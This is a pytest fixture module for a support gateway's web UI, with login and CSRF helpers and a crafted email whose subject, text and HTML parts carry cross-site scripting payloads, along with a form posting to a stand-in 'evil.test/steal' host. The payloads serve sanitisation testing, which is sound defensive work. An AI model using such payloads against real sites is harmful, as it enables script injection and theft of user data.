"""Web fixtures: a logged-in HTTP client against the real daemon, CSRF scraping, mail helpers."""

from __future__ import annotations

import re
from collections.abc import AsyncIterator
from typing import Any

import aiohttp
import pytest

from gateway.daemon import Gateway
from gateway.storage import sessions
from tests.conftest import SUPPORT, wait_until

TOKEN = "test-admin-token"
_CSRF = re.compile(r'name="csrf" value="([^"]+)"')


def csrf_of(html: str) -> str:
    found = _CSRF.search(html)
    assert found, "no CSRF field on the page"
    return found.group(1)


async def log_in(client: aiohttp.ClientSession, base: str,
                 token: str = TOKEN) -> aiohttp.ClientResponse:
    async with client.get(f"{base}/login") as r:
        form_token = csrf_of(await r.text())
    async with client.post(f"{base}/login", data={"csrf": form_token, "token": token, "next": "/"},
                           allow_redirects=False) as r:
        await r.read()
        return r


@pytest.fixture
async def anon(gateway: Gateway) -> AsyncIterator[aiohttp.ClientSession]:
    """A client with a cookie jar (IP hosts allowed) and no login."""
    async with aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True)) as client:
        yield client


@pytest.fixture
async def browser_client(anon: aiohttp.ClientSession, gateway: Gateway) -> aiohttp.ClientSession:
    """`anon`, logged in through the form: carries the session cookie."""
    r = await log_in(anon, gateway.http_url or "")
    assert r.status == 303
    return anon


@pytest.fixture
def bearer() -> dict[str, str]:
    return {"Authorization": f"Bearer {TOKEN}"}


async def page_csrf(client: aiohttp.ClientSession, url: str) -> str:
    async with client.get(url) as r:
        assert r.status == 200
        return csrf_of(await r.text())


async def session_with_reply(gateway: Gateway, contact: str) -> dict[str, Any]:
    """Wait until the session of `contact` exists and holds an AI reply; return it."""
    async def ready() -> dict[str, Any] | None:
        def read(c: Any) -> dict[str, Any] | None:
            s = sessions.latest_session_for_contact(c, contact, ("ai", "handed_off", "closed"))
            if s is None:
                return None
            roles = {m["role"] for m in sessions.session_messages(c, s["id"])}
            return s if "ai" in roles or s["status"] != "ai" else None
        return await gateway.db.read(read)

    return await wait_until(ready, timeout=15)


XSS_SUBJECT = '<img src=x onerror="top.__pwned=\'subject\'"> Help'
XSS_HTML = """<html><head><script>top.__pwned = 'head';</script></head><body>
<p>Hello <b>team</b>, my order is broken.</p>
<script>top.__pwned = 'script'; alert('script')</script>
<img src="x" onerror="top.__pwned = 'onerror'; alert('onerror')">
<svg onload="top.__pwned = 'svg'; alert('svg')"></svg>
<a id="jslink" href="javascript:top.__pwned='link';alert('link')">click me</a>
<iframe src="javascript:alert('frame')"></iframe>
<form action="https://evil.test/steal"><input name="q"><button id="steal">go</button></form>
</body></html>"""


def xss_mail(sender: str = "mallory@evil.test", to: str = SUPPORT) -> bytes:
    """A multipart mail whose subject, text and HTML all try to run script."""
    boundary = "b0undary"
    text = "Plain part <script>alert('text')</script> <b onmouseover=alert(1)>hi</b>"
    lines = [f"From: Mallory <{sender}>", f"To: {to}", f"Subject: {XSS_SUBJECT}",
             "Message-ID: <xss-1@evil.test>", "Date: Tue, 24 Nov 2026 10:00:00 +0000",
             "MIME-Version: 1.0", f'Content-Type: multipart/alternative; boundary="{boundary}"',
             "", f"--{boundary}", "Content-Type: text/plain; charset=utf-8", "", text,
             f"--{boundary}", "Content-Type: text/html; charset=utf-8", "", XSS_HTML,
             f"--{boundary}--", ""]
    return "\r\n".join(lines).encode()
